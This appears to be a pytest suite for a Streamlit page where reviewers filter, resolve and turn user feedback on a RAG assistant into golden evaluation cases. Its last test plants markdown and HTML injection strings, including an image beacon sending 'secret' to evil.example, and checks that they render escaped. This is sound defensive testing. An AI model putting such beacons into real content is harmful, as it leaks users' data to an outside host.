"""AppTest of the feedback review page against a real SQLite database under tmp_path."""

from __future__ import annotations

import json
import re

import pytest
from streamlit.testing.v1 import AppTest

from rag.config import Settings
from rag.evaluation.golden import load_dataset
from rag.index import ingest_file
from rag.ops.database import open_db
from rag.ops.feedback import get_feedback, mark_reviewed, record_feedback
from rag.text import escape_line
from tests.ops.test_runlog import make_run
from tests.pages.apptest import run_page_file


@pytest.fixture
def seeded(page_data_dir):
    db = open_db(page_data_dir / "app.db")
    ids = {
        "leave": record_feedback(db, make_run(), 1, None, None, "ana"),
        "vpn": record_feedback(
            db,
            make_run(
                question="Where is the VPN guide?",
                answer="Ask IT.",
                cited_sources=["vpn.md"],
                passages=[{"chunk_id": "it-7", "source": "vpn.md", "page": 1, "score": 0.6}],
                prompt_version="v2",
                model="llama3.2:3b",
            ),
            0,
            "incomplete",
            "It does not say where",
            "ben",
        ),  # fmt: skip
    }
    db.close()
    return ids


def run_page() -> AppTest:
    return run_page_file("feedback", 60)


def table_questions(at: AppTest) -> list[str]:
    return at.dataframe[0].value["question"].tolist()


def test_empty_state(page_data_dir):
    at = run_page()
    assert "No feedback yet" in at.info[0].value
    assert not at.dataframe


def test_rows_are_listed_with_details(seeded):
    at = run_page()
    assert table_questions(at) == [
        "Where is the VPN guide?",
        "How many days of annual leave do staff get?",
    ]
    assert at.caption[0].value == "2 of 2 ratings"
    assert any("It does not say where" in m.value for m in at.markdown)
    assert len(at.get("download_button")) == 2


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("f_rating", "👍 Helpful", ["How many days of annual leave do staff get?"]),
        ("f_reason", "incomplete", ["Where is the VPN guide?"]),
        ("f_prompt", "v1", ["How many days of annual leave do staff get?"]),
        ("f_model", "llama3.2:3b", ["Where is the VPN guide?"]),
        ("f_user", "ana", ["How many days of annual leave do staff get?"]),
        ("f_document", "handbook.pdf", ["How many days of annual leave do staff get?"]),
    ],
)
def test_a_filter_changes_the_rows(seeded, key, value, expected):
    at = run_page()
    at.selectbox(key=key).set_value(value).run()
    assert not at.exception
    assert table_questions(at) == expected


def test_no_match_shows_a_message(seeded):
    at = run_page()
    at.selectbox(key="f_reason").set_value("out of date").run()
    assert "No ratings match" in at.info[0].value


def test_mark_reviewed_persists(seeded, page_data_dir):
    at = run_page()
    fid = seeded["vpn"]
    assert at.selectbox(key="detail").value == fid
    at.text_area(key=f"note_{fid}").input("Added the VPN page to the IT handbook").run()
    at.button(key="mark").click().run()
    assert not at.exception
    assert any("marked reviewed" in s.value for s in at.success)
    row = get_feedback(open_db(page_data_dir / "app.db"), fid)
    assert (
        row["reviewed"] == 1 and row["resolution_note"] == "Added the VPN page to the IT handbook"
    )
    assert table_questions(at) == ["How many days of annual leave do staff get?"]  # open only
    at.selectbox(key="f_status").set_value("Reviewed").run()
    assert table_questions(at) == ["Where is the VPN guide?"]
    assert any("Added the VPN page" in s.value for s in at.success)


ANSWERED, UNANSWERED = "The documents answer it", "The documents do not answer it"


def golden_file(data_dir) -> list[dict]:
    path = data_dir / "golden" / "feedback.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines()]


def rated_run_id(data_dir, fid: int) -> str:
    db = open_db(data_dir / "app.db")
    run_id = get_feedback(db, fid)["run_id"]
    db.close()
    return run_id


def test_the_expected_answer_starts_empty_and_nothing_is_added_before_a_verdict(seeded):
    at = run_page()
    fid = seeded["vpn"]
    assert at.radio(key=f"gold_verdict_{fid}").value is None
    assert at.button(key="golden").disabled
    assert any("say whether the documents answer it" in c.value for c in at.caption)
    at.radio(key=f"gold_verdict_{fid}").set_value(ANSWERED).run()
    assert any(m.value == "Ask IT." for m in at.markdown)  # the rated answer, for reference
    assert at.text_area(key=f"gold_answer_{fid}").value == ""  # ... never the expected one
    assert at.multiselect(key=f"gold_sources_{fid}").value == []  # the cited file is not assumed
    assert at.button(key="golden").disabled
    assert any("choose the source that answers it" in c.value for c in at.caption)


def test_a_thumbs_down_reviewed_as_unanswerable_is_added_without_sources(seeded, page_data_dir):
    at = run_page()
    fid = seeded["vpn"]
    at.radio(key=f"gold_verdict_{fid}").set_value(UNANSWERED).run()
    assert f"gold_answer_{fid}" not in [w.key for w in at.text_area]
    at.text_input(key=f"gold_note_{fid}").input("No document covers the VPN").run()
    assert not at.button(key="golden").disabled
    at.button(key="golden").click().run()
    assert not at.exception
    path = page_data_dir / "golden" / "feedback.jsonl"
    assert any(escape_line(str(path)) in s.value for s in at.success)  # names the file
    [case] = golden_file(page_data_dir)
    assert case["answerable"] is False and "sources" not in case and "key_facts" not in case
    assert case["question"] == "Where is the VPN guide?"
    assert case["origin"] == "feedback" and case["reviewer"] == "local"
    assert case["run_id"] == rated_run_id(page_data_dir, fid)
    assert case["note"] == "No document covers the VPN"
    [loaded] = load_dataset(path)
    assert loaded.answerable is False and loaded.sources == [] and loaded.id == case["id"]
    at.button(key="golden").click().run()  # the same question again
    assert any("already in the golden set" in w.value for w in at.warning)
    assert len(golden_file(page_data_dir)) == 1


def test_an_answerable_case_gets_the_chosen_source_pages_and_key_facts(
    seeded, page_data_dir, open_store
):
    with open_store(Settings(data_dir=page_data_dir, backend="embedded")) as store:
        ingest_file(store, "it-handbook.md", b"# IT handbook\n\nThe VPN guide is on page 12.\n")
    at = run_page()
    fid = seeded["vpn"]
    at.radio(key=f"gold_verdict_{fid}").set_value(ANSWERED).run()
    sources = at.multiselect(key=f"gold_sources_{fid}")
    assert sources.options == ["vpn.md", "it-handbook.md"]  # cited first, then the store's
    sources.set_value(["it-handbook.md"])
    at.text_area(key=f"gold_facts_{fid}").input("IT handbook\npage 12\n")
    at.text_input(key=f"gold_pages_{fid}").input("12, 14")
    assert at.text_input(key=f"gold_question_{fid}").value == "Where is the VPN guide?"
    at.text_input(key=f"gold_question_{fid}").input("Where is the company VPN guide?")
    at.run()
    assert not at.error and not at.button(key="golden").disabled
    at.button(key="golden").click().run()
    assert not at.exception
    [case] = golden_file(page_data_dir)
    assert case["question"] == "Where is the company VPN guide?"  # the reviewer's wording
    assert {k: case[k] for k in ("answerable", "sources", "pages", "key_facts", "answer")} == {
        "answerable": True,
        "sources": ["it-handbook.md"],
        "pages": [12, 14],
        "key_facts": ["IT handbook", "page 12"],
        "answer": "",
    }
    [loaded] = load_dataset(page_data_dir / "golden" / "feedback.jsonl")
    assert (loaded.sources, loaded.pages, loaded.key_facts) == (
        ["it-handbook.md"],
        [12, 14],
        ["IT handbook", "page 12"],
    )


@pytest.mark.parametrize("pages", ["twelve", "0", "14-12"])
def test_a_mistyped_page_is_an_error_and_nothing_is_written(seeded, page_data_dir, pages):
    at = run_page()
    fid = seeded["vpn"]
    at.radio(key=f"gold_verdict_{fid}").set_value(ANSWERED).run()
    at.multiselect(key=f"gold_sources_{fid}").set_value(["vpn.md"])
    at.text_area(key=f"gold_answer_{fid}").input("The VPN guide is on the IT intranet.")
    at.text_input(key=f"gold_pages_{fid}").input(pages)
    at.run()
    assert any("Pages are page numbers from 1" in e.value for e in at.error)
    assert at.button(key="golden").disabled
    assert not (page_data_dir / "golden" / "feedback.jsonl").exists()
    at.text_input(key=f"gold_pages_{fid}").input("3").run()  # corrected, it can be added
    assert not at.error and not at.button(key="golden").disabled
    at.button(key="golden").click().run()
    assert [c["pages"] for c in golden_file(page_data_dir)] == [[3]]


def live(md: str) -> str:
    """What Markdown syntax sees: ``md`` with every backslash escape taken out."""
    return re.sub(r"\\.", "", md, flags=re.S)


def test_other_peoples_words_render_as_text(page_data_dir):
    image = "![x](http://evil.example/beacon.png?q=secret)"
    db = open_db(page_data_dir / "app.db")
    fid = record_feedback(
        db,
        make_run(
            question=f"Where is the VPN guide? {image}",
            rewritten_query="vpn guide <img src=http://evil.example/r.png>",
            # an answer stored before answers were escaped
            answer=f"1. The guide is on the intranet {image} [1].\n2. See <http://evil.example>.",
        ),
        0,
        "incorrect",
        f"Wrong, see [here](http://evil.example/c) {image}",
        "mallory",
    )
    mark_reviewed(db, fid, f"Fixed {image}", "rev :red[x]")
    db.close()
    at = run_page()
    at.selectbox(key="f_status").set_value("Reviewed").run()
    assert not at.exception, at.exception
    shown = [m.value for m in at.markdown] + [c.value for c in at.caption]
    shown += [s.value for s in at.success]
    question = next(md for md in shown if md.startswith("**Question:**"))
    assert "\\!\\[x\\]\\(" in question  # the image syntax is shown, escaped
    comment = next(md for md in shown if md.startswith("**Comment:**"))
    assert "\\[here\\]\\(" in comment
    answer = next(md for md in shown if "intranet" in md)
    assert answer.startswith("1. The guide") and "[1]." in answer  # the answer keeps its layout
    for md in shown:
        rest = live(md)
        assert "![" not in rest and "](" not in rest and "<" not in rest, md
        assert ":red[" not in rest and "http://" not in rest, md
